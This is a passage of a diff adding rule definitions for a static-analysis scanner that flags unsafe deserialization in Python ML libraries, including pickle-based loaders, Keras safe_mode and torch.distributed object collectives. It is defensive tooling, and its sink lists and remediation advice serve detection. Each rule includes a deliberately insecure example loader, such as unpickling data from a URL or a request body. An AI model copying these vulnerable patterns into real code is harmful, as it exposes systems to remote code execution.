+    howToFix: "Remove `allow_pickle=True` (the default is False). If loading fails because the file contains object arrays, fix the producer: save numeric arrays only (`np.save(path, arr.astype(np.float32))`), or move strings and nested structures to JSON, Parquet or safetensors. Load object arrays only from files you produced and whose hash you verify.",
+    fixHint: "Drop allow_pickle=True (the default False is safe); save object data as JSON/Parquet instead.",
+    vulnerableExample: [
+      "import numpy as np",
+      "",
+      "def load_features(path):",
+      "    return np.load(path, allow_pickle=True)  # object arrays are unpickled"
+    ].join("\n"),
+    safeExample: [
+      "import numpy as np",
+      "",
+      "def load_features(path):",
+      "    return np.load(path)  # allow_pickle=False: numeric arrays only"
+    ].join("\n"),
+    detectionScope: "Calls of `numpy.load` (also `numpy.lib.npyio.load`) and `numpy.lib.format.read_array` resolved through imports, aliases (`import numpy as np`), rebinding and constant dynamic imports; `allow_pickle` is read as keyword or by position. Literal false values (`False`, `0`, `None`) and the default are safe; a non-literal value is reported at medium confidence; options passed through `*args`/`**kwargs` at low confidence. Legacy pickle aliases `numpy.loads`, `numpy.ma.loads`, `numpy.ma.load` are always reported. Fix: a literal `allow_pickle=True` becomes `allow_pickle=False`, which loads every numeric file exactly as before. The `.npy` files themselves are scanned by the artifact rules.",
+    references: [
+      { title: "NumPy documentation: numpy.load (allow_pickle warning)", url: "https://numpy.org/doc/stable/reference/generated/numpy.load.html" },
+      { title: "NumPy documentation: the .npy format and object arrays", url: "https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html" },
+      { title: "CVE-2019-6446: numpy.load pickle default", url: "https://nvd.nist.gov/vuln/detail/CVE-2019-6446" },
+      { title: "NumPy 1.16.3 release notes: allow_pickle defaults to False", url: "https://numpy.org/doc/stable/release/1.16.3-notes.html" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: 'numpy.load raised "Object arrays cannot be loaded when allow_pickle=False". Should we set it to True?',
+        answer: "Only for files you produced yourself and whose integrity you verify. The error means the file contains a pickle; change how it is written (numeric dtypes, or JSON/Parquet for strings and structures) instead."
+      },
+      {
+        question: "Is `numpy.load(path)` without allow_pickle reported?",
+        answer: "No. Since NumPy 1.16.3 the default is False, which refuses object arrays."
+      },
+      {
+        question: "Why is `np.load(path, allow_pickle=flag)` reported?",
+        answer: "The analysis cannot prove `flag` is false. It is reported at medium confidence; if the value is a constant False, write it literally."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-003.ts
+var message7 = unpicklingMessage(
+  "pickle (pandas.read_pickle is pickle.load with decompression)",
+  "Never read pickles from untrusted sources; exchange DataFrames as Parquet, Feather, CSV or JSON."
+);
+var PYTHON_ML_SEC_003_default = defineRule({
+  id: "PYTHON-ML-SEC-003",
+  name: "Pandas read_pickle of Untrusted Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "pandas", "ml", "data", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: ["B301"],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-004", "PYTHON-ML-SEC-010"],
+  prefilter: ["pandas", "read_pickle", "pickle_compat"],
+  sinks: [
+    {
+      call: ["pandas.read_pickle", "pandas.compat.pickle_compat.load", "pandas.compat.pickle_compat.loads"],
+      references: true,
+      message: message7
+    }
+  ],
+  docs: {
+    summary: "Detects `pandas.read_pickle`, which unpickles its input and runs any code a crafted file contains.",
+    description: "`pandas.read_pickle` opens a path, URL or buffer, decompresses it if needed, and calls `pickle.load`. It accepts any pickle, not only DataFrames, so a file named `data.pkl` is an executable as far as Python is concerned. This rule reports `pandas.read_pickle` (also as `pd.read_pickle`, `pandas.io.pickle.read_pickle`, Modin's `modin.pandas.read_pickle`) and pandas' internal `pandas.compat.pickle_compat.load`/`loads`, through aliases, rebinding, constant dynamic imports, and when passed as a callback.",
+    securityImplications: 'Pickled DataFrames are shared through notebooks, object storage buckets, dataset hubs and email. `read_pickle` also accepts URLs (`pd.read_pickle("https://...")`, `s3://...`), so a changed remote object is enough to run code on every machine that loads it: analysts\' laptops, scheduled jobs, training clusters with cloud credentials.',
+    howToFix: "Store and exchange tabular data as Parquet (`df.to_parquet` / `pd.read_parquet`), Feather, CSV or JSON, none of which can carry code. Keep `read_pickle` for short-lived local caches that only your process writes, in a directory nobody else can write.",
+    fixHint: "Use Parquet/Feather/CSV (pd.read_parquet) instead of pickle for data others can provide.",
+    vulnerableExample: [
+      "import pandas as pd",
+      "",
+      "def load_dataset(url):",
+      "    return pd.read_pickle(url)  # a crafted pickle runs code"
+    ].join("\n"),
+    safeExample: [
+      "import pandas as pd",
+      "",
+      "def load_dataset(url):",
+      "    return pd.read_parquet(url)  # columnar data only"
+    ].join("\n"),
+    detectionScope: "Calls of `pandas.read_pickle`, `pandas.io.pickle.read_pickle`, `modin.pandas.read_pickle` and `pandas.compat.pickle_compat.load`/`loads`, resolved through imports, aliases, rebinding and constant dynamic imports, and these functions passed uncalled as a callback (medium confidence). `DataFrame.to_pickle` and `DataFrame.read_pickle`-like methods of other objects are not findings. HDF5 stores that may unpickle object columns are covered by PYTHON-ML-SEC-010.",
+    references: [
+      { title: "pandas documentation: read_pickle (security warning)", url: "https://pandas.pydata.org/docs/reference/api/pandas.read_pickle.html" },
+      { title: "pandas documentation: IO tools, pickling", url: "https://pandas.pydata.org/docs/user_guide/io.html#pickling" },
+      { title: "Bandit B301: pickle (includes pandas.read_pickle)", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" },
+      { title: "Ruff S301: suspicious-pickle-usage", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "read_pickle is much faster than CSV. What should we use instead?",
+        answer: "Parquet or Feather are as fast or faster for typical DataFrames, keep dtypes, and cannot execute code."
+      },
+      {
+        question: "Is `df.to_pickle(path)` reported?",
+        answer: "No. Writing a pickle runs no attacker-controlled code; only reading is reported."
+      },
+      {
+        question: "The pickle is a cache our own job writes. Is this a false positive?",
+        answer: "If nobody else can write that location, the risk is low: suppress the finding with that justification."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-004.ts
+var message8 = unpicklingMessage(
+  "joblib, which stores models as pickles",
+  "Load only models you produced and verified (pinned hash); to share scikit-learn models, use skops.io, ONNX or another format without code."
+);
+var PYTHON_ML_SEC_004_default = defineRule({
+  id: "PYTHON-ML-SEC-004",
+  name: "Joblib Load of Untrusted Model",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "joblib", "scikit-learn", "ml", "model", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-001", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-011"],
+  prefilter: ["joblib"],
+  sinks: [{ call: ["joblib.load"], references: true, message: message8 }],
+  docs: {
+    summary: "Detects `joblib.load` (also `sklearn.externals.joblib.load`), which unpickles model files and runs any code they contain.",
+    description: "joblib is the standard way to persist scikit-learn models (`.joblib`, `.pkl`). Its format is pickle with numpy arrays stored alongside, and `joblib.load` runs the full unpickler: a model file can execute code when loaded. This rule reports `joblib.load`, also reached as `sklearn.externals.joblib.load`, `joblib.numpy_pickle.load`, through aliases, rebinding, constant dynamic imports, and when passed as a callback.",
+    securityImplications: "Models are downloaded from hubs, shared between teams and fetched by serving infrastructure from object storage. Anyone who can replace the file (a compromised bucket, a malicious upload, a typo-squatted hub repository) runs code in the training or serving environment, usually one with data access and cloud credentials.",
+    howToFix: "Load only files you produced, from storage only you can write, and verify a pinned SHA-256 before loading. To exchange scikit-learn models, use `skops.io.dump`/`skops.io.load` (which refuses unknown types unless you trust them explicitly) or export to ONNX; keep training data and parameters in data-only formats.",
+    fixHint: "Verify a pinned hash before joblib.load, or share models with skops.io/ONNX instead of pickle.",
+    vulnerableExample: [
+      "import joblib",
+      "",
+      "def load_model(path):",
+      "    return joblib.load(path)  # any pickle payload runs here"
+    ].join("\n"),
+    safeExample: [
+      "import skops.io as sio",
+      "",
+      "def load_model(path):",
+      "    unknown = sio.get_untrusted_types(file=path)",
+      "    if unknown:",
+      '        raise ValueError(f"refusing untrusted types: {unknown}")',
+      "    return sio.load(path)"
+    ].join("\n"),
+    detectionScope: "Calls of `joblib.load`, `joblib.numpy_pickle.load` and `sklearn.externals.joblib.load`, resolved through imports, aliases, rebinding and constant dynamic imports, and `joblib.load` passed uncalled as a callback (medium confidence). `joblib.dump`, `joblib.Memory` and `joblib.Parallel` are not findings. Every call is reported, since the analysis does not prove where the file comes from; `.joblib`/`.pkl` files themselves are scanned by the artifact rules.",
+    references: [
+      { title: "joblib documentation: persistence (security warning)", url: "https://joblib.readthedocs.io/en/stable/persistence.html" },
+      { title: "scikit-learn documentation: model persistence and security", url: "https://scikit-learn.org/stable/model_persistence.html" },
+      { title: "skops documentation: secure persistence", url: "https://skops.readthedocs.io/en/stable/persistence.html" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "joblib is not pickle, is it?",
+        answer: "It is pickle with efficient storage for numpy arrays. Loading a joblib file runs the pickle virtual machine with all its risks."
+      },
+      {
+        question: "We only load models our own training pipeline wrote.",
+        answer: "Then the trust boundary is the storage: make sure only the pipeline can write it, verify a hash recorded at training time, and suppress the finding with that justification."
+      },
+      { question: "Is `joblib.dump` reported?", answer: "No. Only loading is reported." }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-005.ts
+var message9 = unpicklingMessage(
+  "cloudpickle (pickle, plus code objects for functions and classes)",
+  "Never load cloudpickle data from an untrusted source; send data in JSON/msgpack and refer to code by name."
+);
+var PYTHON_ML_SEC_005_default = defineRule({
+  id: "PYTHON-ML-SEC-005",
+  name: "Cloudpickle Deserialization of Untrusted Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "cloudpickle", "ml", "distributed", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-046"],
+  prefilter: ["cloudpickle", "srsly"],
+  sinks: [{ call: ["cloudpickle.load", "cloudpickle.loads", "srsly.pickle_loads"], references: true, message: message9 }],
+  docs: {
+    summary: "Detects cloudpickle deserialization (`cloudpickle.loads`, `cloudpickle.load`, and wrappers such as `srsly.pickle_loads`), which runs arbitrary code from its input.",
+    description: "cloudpickle serializes functions, lambdas and classes by value so that they can run on other machines; it is the transport of Ray, Dask, PySpark, joblib's process backend and MLflow's Python models. `cloudpickle.loads` is `pickle.loads`: the payload decides which code runs. This rule reports `cloudpickle.load`/`loads`, also reached through `cloudpickle.cloudpickle`, vendored copies (`ray.cloudpickle`, `pyspark.cloudpickle`, `joblib.externals.cloudpickle`, `srsly.cloudpickle`), spaCy's `srsly.pickle_loads`, aliases, rebinding, constant dynamic imports, and when passed as a callback.",
+    securityImplications: "In distributed systems the deserializing side is often a privileged worker or driver. Anyone who can inject a message (an exposed scheduler port, a shared queue, a model artifact in a registry) runs code on every worker that loads it, with access to the cluster's data and credentials.",
+    howToFix: "Keep cloudpickle traffic on authenticated, private channels between components you control, and never load cloudpickle files from users or the internet. To exchange data, use JSON, msgpack, Arrow or safetensors, and refer to functions by a registered name instead of shipping their code.",
+    fixHint: "Exchange data (JSON, msgpack, Arrow) and reference code by name; load cloudpickle only over private, authenticated channels.",
+    vulnerableExample: [
+      "import cloudpickle",
+      "",
+      "def handle(request):",
+      "    job = cloudpickle.loads(request.body)  # the client decides what runs",
+      "    return job()"
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "",
+      'JOBS = {"score": score_batch}',
+      "",
+      "def handle(request):",
+      "    spec = json.loads(request.body)",
+      '    return JOBS[spec["job"]](spec["rows"])  # only registered code runs'
+    ].join("\n"),
+    detectionScope: "Calls of `cloudpickle.load`, `cloudpickle.loads` and `srsly.pickle_loads`, resolved through imports (including vendored copies listed above), aliases, rebinding and constant dynamic imports, and these functions passed uncalled as a callback (medium confidence). `cloudpickle.dump`/`dumps` are not findings. Deserialization hidden inside frameworks (Ray, Dask, Spark) is not reported: only direct calls are.",
+    references: [
+      { title: "cloudpickle README (security notice)", url: "https://github.com/cloudpipe/cloudpickle#readme" },
+      { title: "srsly: pickle_loads", url: "https://github.com/explosion/srsly#pickle" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "cloudpickle is how our framework ships functions. What can we do?",
+        answer: "Make sure only trusted components can reach the channel (authentication, private networks, TLS), and never accept cloudpickle payloads from users. Suppress reviewed internal uses with a justification."
+      },
+      { question: "Is `cloudpickle.dumps` reported?", answer: "No. Only loading is reported." }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-006.ts
+var message10 = unpicklingMessage(
+  "torch.package, which unpickles the archive's objects and imports the Python source it ships",
+  "Load only packages you built or verified (pinned hash); share weights as safetensors instead."
+);
+var PYTHON_ML_SEC_006_default = defineRule({
+  id: "PYTHON-ML-SEC-006",
+  name: "torch.package Import of Untrusted Archive",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "pytorch", "torch", "ml", "model", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-ML-SEC-001", "PYTHON-LANG-SEC-040"],
+  prefilter: ["torch", "PackageImporter"],
+  sinks: [{ call: ["torch.package.PackageImporter"], subclasses: true, message: message10 }],
+  docs: {
+    summary: "Detects `torch.package.PackageImporter`, which loads pickled objects and executes Python code shipped inside a `.pt` package.",
+    description: "`torch.package` bundles a model's pickled objects together with the Python source needed to rebuild them. A `PackageImporter` opened on such an archive runs that source when `import_module` or `load_pickle` is called, and `load_pickle` runs the full unpickler (there is no `weights_only` mode). The PyTorch documentation states that torch.package is not secure and that packages must be trusted. This rule reports constructing a `PackageImporter` (also as `torch.package.package_importer.PackageImporter`, aliases, local subclasses); the `load_pickle`/`import_module` calls on it are part of the same finding.",
+    securityImplications: "A package received from someone else is a program: loading it runs its code with the privileges of the process, on training machines and serving hosts that typically hold data and credentials.",
+    howToFix: "Open only packages you produced, from storage only you can write, and verify a pinned SHA-256 before loading. To exchange models, ship weights as `safetensors` and the architecture as reviewed code in your repository, or use a format without embedded code (ONNX).",
+    fixHint: "Load only packages you built and verified; exchange weights as safetensors plus reviewed model code.",
+    vulnerableExample: [
+      "from torch.package import PackageImporter",
+      "",
+      "def load_shared_model(path):",
+      "    importer = PackageImporter(path)  # ships and runs its own code",
+      '    return importer.load_pickle("model", "model.pkl")'
+    ].join("\n"),
+    safeExample: [
+      "from safetensors.torch import load_file",
+      "",
+      "def load_shared_model(path):",
+      "    model = MyModel()  # architecture from reviewed code",
+      "    model.load_state_dict(load_file(path))  # tensors only",
+      "    return model"
+    ].join("\n"),
+    detectionScope: "Calls of `torch.package.PackageImporter` (and `torch.package.package_importer.PackageImporter`) resolved through imports, aliases, rebinding and constant dynamic imports, and instantiation of local subclasses. `PackageExporter` is not a finding. Archives themselves are scanned by the artifact rules.",
+    references: [
+      { title: "PyTorch documentation: torch.package (security warning)", url: "https://pytorch.org/docs/stable/package.html" },
+      { title: "safetensors documentation", url: "https://huggingface.co/docs/safetensors/index" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "Why is the constructor reported rather than load_pickle?",
+        answer: "Opening the archive is the decision to trust it: every useful operation on the importer runs its code or unpickles its data. One finding per archive keeps the review focused."
+      },
+      { question: "Is `PackageExporter` reported?", answer: "No. Writing a package runs no code from untrusted input." }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-007.ts
+var ADVICE5 = "Keep `safe_mode=True` (the default) and replace Lambda layers with registered custom layers.";
+var SAFE_MODE_POSITION = {
+  "keras.models.load_model": 3,
+  "keras.saving.load_model": 3,
+  "keras.saving.deserialize_keras_object": 2
+};
+function check6(m) {
+  const position = SAFE_MODE_POSITION[m.target];
+  const safeMode = m.args.find("safe_mode", position);
+  if (!safeMode) return null;
+  const truth = literalTruth(safeMode, m.model.tree.source);
+  if (truth === true) return null;
+  if (truth === false) {
+    return {
+      message: `${spelled(m)} with \`safe_mode=False\` deserializes Lambda layers, whose Python bytecode is stored in the file: loading a crafted model runs arbitrary code. ${ADVICE5}`
+    };
+  }
+  return {
+    confidence: "medium",
+    message: `${spelled(m)} takes \`safe_mode\` from a value the analysis cannot evaluate; when it is False, Lambda bytecode stored in the file runs on load. ${ADVICE5}`
+  };
+}
+var PYTHON_ML_SEC_007_default = defineRule({
+  id: "PYTHON-ML-SEC-007",
+  name: "Keras Model Loading With safe_mode Disabled",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "keras", "tensorflow", "ml", "model", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-ML-SEC-001", "PYTHON-ML-SEC-004"],
+  prefilter: ["keras"],
+  sinks: [
+    { call: Object.keys(SAFE_MODE_POSITION), check: check6, message: (m) => `${spelled(m)} may deserialize Lambda bytecode. ${ADVICE5}` },
+    {
+      call: ["keras.config.enable_unsafe_deserialization"],
+      message: (m) => `${spelled(m)} turns off safe mode for every later model load in the process: Lambda bytecode in any loaded file then runs. ${ADVICE5}`
+    }
+  ],
+  docs: {
+    summary: "Detects Keras model loading with `safe_mode=False` and `keras.config.enable_unsafe_deserialization()`, which let a model file run arbitrary Python bytecode.",
+    description: "Keras stores `Lambda` layers by serializing their Python function's bytecode into the model file. Keras 3 (and tf.keras since 2.13) refuses to rebuild them unless `safe_mode=False` is passed or unsafe deserialization is enabled globally, because rebuilding them executes attacker-chosen code (CVE-2024-3660 covered the missing check in earlier versions). This rule reports `keras.models.load_model`, `keras.saving.load_model`, and `keras.saving.deserialize_keras_object` when `safe_mode` is False or not a literal (medium confidence), and every call of `keras.config.enable_unsafe_deserialization()`. `tf.keras`, `tensorflow.keras` and `tf_keras` are treated as Keras.",
+    securityImplications: "Model files are downloaded from hubs and shared between teams. With safe mode disabled, opening a `.keras` file runs whatever bytecode its Lambda layers carry, with access to the training data, credentials and network of the loading machine.",
+    howToFix: "Do not disable safe mode. Replace `Lambda` layers with subclassed layers registered through `keras.saving.register_keras_serializable()` so that their code lives in your repository and the file stores only configuration. If a legacy model needs it, load it once in an isolated environment and re-save it without Lambda layers.",
+    fixHint: "Keep safe_mode=True; replace Lambda layers with registered custom layers.",
+    vulnerableExample: [
+      "import keras",
+      "",
+      "def load(path):",
+      "    return keras.models.load_model(path, safe_mode=False)  # Lambda bytecode runs"
+    ].join("\n"),
+    safeExample: [
+      "import keras",
+      "",
+      "def load(path):",
+      "    return keras.models.load_model(path)  # safe_mode=True: no stored bytecode runs"
+    ].join("\n"),
+    detectionScope: "Calls of the listed Keras functions (also through `tensorflow.keras`, `tf.keras`, `tf_keras`, aliases, rebinding) with `safe_mode` given as keyword or by position and literally false, or non-literal (medium confidence); the default (`safe_mode=True`) is not reported. Calls of `keras.config.enable_unsafe_deserialization` are always reported. Not covered: legacy HDF5 (`.h5`) models loaded by Keras 2 / TensorFlow < 2.13, which ignore `safe_mode`, because the file format is not visible from the call.",
+    references: [
+      { title: "Keras documentation: load_model and safe_mode", url: "https://keras.io/api/models/model_saving_apis/model_saving_and_loading/" },
+      { title: "Keras documentation: enable_unsafe_deserialization", url: "https://keras.io/api/utils/config_utils/" },
+      { title: "CVE-2024-3660: Keras arbitrary code injection via Lambda layers", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-3660" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "Our model has a Lambda layer and fails to load without safe_mode=False.",
+        answer: "Move the function into a custom layer class registered with `register_keras_serializable`, rebuild the model from trusted code, and re-save it. Then it loads in safe mode."
+      },
+      {
+        question: "Is `load_model(path)` without safe_mode reported?",
+        answer: "No. The default `safe_mode=True` refuses stored bytecode."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-008.ts
+var OBJECT_COLLECTIVES = [
+  "torch.distributed.recv_object_list",
+  "torch.distributed.broadcast_object_list",
+  "torch.distributed.gather_object",
+  "torch.distributed.scatter_object_list",
+  "torch.distributed.all_gather_object"
+];
+var message11 = (m) => `${spelled(m)} unpickles the objects other ranks send: any participant of the process group (or anyone who can join its rendezvous) can run code here. Exchange tensors with the tensor collectives (broadcast, all_gather) and keep the rendezvous endpoint private.`;
+var PYTHON_ML_SEC_008_default = defineRule({
+  id: "PYTHON-ML-SEC-008",
+  name: "torch.distributed Object Collectives Unpickle Peer Data",
+  language: "python",
+  severity: "medium",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "pytorch", "torch", "distributed", "ml", "pickle", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-LANG-SEC-073", "PYTHON-ML-SEC-001"],
+  prefilter: ["torch"],
+  sinks: [{ call: OBJECT_COLLECTIVES, message: message11 }],
+  docs: {
+    summary: "Detects torch.distributed object collectives (`broadcast_object_list`, `all_gather_object`, `gather_object`, `scatter_object_list`, `recv_object_list`), which pickle and unpickle objects between ranks.",
+    description: "Tensor collectives move raw tensor memory; the `*_object*` collectives instead pickle arbitrary Python objects on the sending rank and unpickle them on the receiving ranks. The PyTorch documentation warns that they use pickle implicitly and must only be called with data you trust. This rule reports every call of these functions (also via `torch.distributed.distributed_c10d`, `import torch.distributed as dist`, aliases and rebinding). Severity is medium: the peers are normally the job's own ranks, but any compromised rank, or anyone who can join an exposed rendezvous (TCPStore, c10d) endpoint, can run code on all the others.",
+    securityImplications: "Training jobs span many machines that share credentials and data. Code execution through a poisoned object propagates from one rank to every rank that receives it, and an unauthenticated rendezvous port reachable from other networks lets an outsider join the group.",
+    howToFix: "Exchange tensors with `broadcast`, `all_gather`, `send`/`recv`, encoding metadata as integer or byte tensors or as JSON in a byte tensor. Keep the rendezvous (`MASTER_ADDR`/`MASTER_PORT`, TCPStore) on a private network. Use object collectives only for objects built by your own code on trusted ranks.",
+    fixHint: "Exchange tensors (or JSON in byte tensors) instead of pickled objects; keep the rendezvous private.",
+    vulnerableExample: [
+      "import torch.distributed as dist",
+      "",
+      "def share_config(config):",
+      "    objects = [config]",
+      "    dist.broadcast_object_list(objects, src=0)  # receivers unpickle",
+      "    return objects[0]"
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "import torch",
+      "import torch.distributed as dist",
+      "",
+      "def share_config(config, size=4096):",
+      "    buf = torch.zeros(size, dtype=torch.uint8)",
+      "    if dist.get_rank() == 0:",
+      "        raw = json.dumps(config).encode()",
+      "        buf[: len(raw)] = torch.tensor(list(raw), dtype=torch.uint8)",
+      "    dist.broadcast(buf, src=0)  # raw bytes, decoded as JSON",
+      '    return json.loads(bytes(buf.tolist()).rstrip(b"\\0"))'
+    ].join("\n"),
+    detectionScope: "Calls of `torch.distributed.recv_object_list`, `broadcast_object_list`, `gather_object`, `scatter_object_list` and `all_gather_object` resolved through imports, aliases, rebinding and constant dynamic imports. Tensor collectives are not reported. `torch.distributed.rpc` (which also pickles) is not covered.",
+    references: [
+      { title: "PyTorch documentation: torch.distributed object collectives (pickle warning)", url: "https://pytorch.org/docs/stable/distributed.html#torch.distributed.broadcast_object_list" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "All ranks run our own code. Is this a false positive?",
+        answer: "Usually the risk is low, hence medium severity. It matters when the rendezvous endpoint is reachable from untrusted networks or when ranks process untrusted inputs that end up in the exchanged objects. Suppress reviewed calls with a justification."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-009.ts
+var ADVICE6 = "Use plain msgpack and encode arrays of numeric dtype yourself, or safetensors/npy with allow_pickle=False.";
+function message12(m) {
+  if (m.target === "msgpack_numpy.patch") {
+    return `${spelled(m)} makes every later \`msgpack.unpackb\`/\`msgpack.loads\` in the process decode object arrays with pickle.loads: any msgpack input can then run arbitrary code. ${ADVICE6}`;
+  }
+  if (m.via === "reference") {
+    return `${spelled(m)} is used as a decoding hook: it unpickles arrays of dtype object ("kind" b"O"), so a crafted msgpack message runs arbitrary code. ${ADVICE6}`;
+  }
+  return `${spelled(m)} unpickles arrays of dtype object ("kind" b"O") found in the message, so crafted msgpack data runs arbitrary code. ${ADVICE6}`;
+}
+var PYTHON_ML_SEC_009_default = defineRule({
+  id: "PYTHON-ML-SEC-009",
+  name: "msgpack-numpy Decodes Object Arrays With Pickle",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "msgpack", "numpy", "ml", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-ML-SEC-002", "PYTHON-LANG-SEC-040"],
+  prefilter: ["msgpack_numpy"],
+  sinks: [
+    {
+      call: ["msgpack_numpy.unpackb", "msgpack_numpy.loads", "msgpack_numpy.unpack", "msgpack_numpy.load", "msgpack_numpy.Unpacker", "msgpack_numpy.decode"],
+      references: true,
+      message: message12
+    },
+    { call: ["msgpack_numpy.patch"], message: message12 }
+  ],
+  docs: {
+    summary: "Detects msgpack-numpy decoding (`msgpack_numpy.unpackb`/`loads`/`unpack`/`Unpacker`, `decode` as an object hook, `patch()`), which unpickles object arrays from the message.",
+    description: 'msgpack is a data-only format, but msgpack-numpy extends it with NumPy arrays. Its `decode` hook turns any map tagged `nd: True` with `kind: b"O"` into `pickle.loads(data)`, so a msgpack message can carry a pickle that runs when decoded. This rule reports msgpack-numpy\'s decoding entry points (`unpackb`, `loads`, `unpack`, `load`, `Unpacker`, `decode`), `msgpack_numpy.decode` passed as `object_hook` to plain msgpack, and `msgpack_numpy.patch()`, which installs the hook into `msgpack` globally.',
+    securityImplications: "msgpack is chosen precisely because it is supposed to be safe for network messages (RPC, queues, caches, model servers). With msgpack-numpy decoding, every peer that can send a message can execute code in the receiver.",
+    howToFix: "Decode untrusted messages with plain `msgpack.unpackb` and no msgpack-numpy hook. Send arrays as raw buffers with explicit numeric dtype and shape (`arr.tobytes()`, `np.frombuffer`), and reject object dtypes.",
+    fixHint: "Decode with plain msgpack and rebuild numeric arrays with np.frombuffer; never decode object arrays from peers.",
+    vulnerableExample: [
+      "import msgpack",
+      "import msgpack_numpy as m",
+      "",
+      "def handle(payload):",
+      "    return msgpack.unpackb(payload, object_hook=m.decode)  # object arrays are unpickled"
+    ].join("\n"),
+    safeExample: [
+      "import msgpack",
+      "import numpy as np",
+      "",
+      "def handle(payload):",
+      "    msg = msgpack.unpackb(payload)",
+      '    return np.frombuffer(msg["data"], dtype=np.float32).reshape(msg["shape"])'
+    ].join("\n"),
+    detectionScope: "Calls of `msgpack_numpy.unpackb`, `loads`, `unpack`, `load`, `Unpacker`, `decode` and `patch`, and `msgpack_numpy.decode`/`unpackb`/`loads` passed uncalled as an argument (for example `object_hook=m.decode`), resolved through imports, aliases and rebinding. Calls of plain `msgpack` after `patch()` are not reported individually: the `patch()` call is the finding. Encoding (`packb`, `encode`) is not reported.",
+    references: [
+      { title: "msgpack-numpy README", url: "https://github.com/lebedov/msgpack-numpy" },
+      { title: "msgpack-numpy decode() unpickles object arrays (issue/PR discussion)", url: "https://github.com/lebedov/msgpack-numpy/pull/58" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "Our messages never contain object arrays.",
+        answer: "Your senders do not produce them, but an attacker's message can. The decoder accepts the pickled form whenever it appears, so the protection has to be on the decoding side."
+      },
+      { question: "Is plain `msgpack.unpackb` reported?", answer: "No, unless msgpack-numpy's hook is passed to it or installed with `patch()`." }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-010.ts
+var ADVICE7 = 'Read HDF5 only from trusted sources, or store tables as Parquet; with format="table" and non-object dtypes nothing is pickled.';
+function message13(m) {
+  return `${spelled(m)} reads pandas HDF5 data, where object-dtype columns in "fixed" format are stored with pickle: a crafted file runs arbitrary code when read. ${ADVICE7}`;
+}
+function check7(m) {
+  if (m.target !== "pandas.HDFStore") return {};
+  const mode = m.args.find("mode", 1);
+  const value = mode && m.model.constantString(mode, m.scope);
+  return value === "w" ? null : {};
+}
+var PYTHON_ML_SEC_010_default = defineRule({
+  id: "PYTHON-ML-SEC-010",
+  name: "Pandas HDF5 Read May Unpickle",
+  language: "python",
+  severity: "medium",
+  confidence: "medium",
+  precision: "medium",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
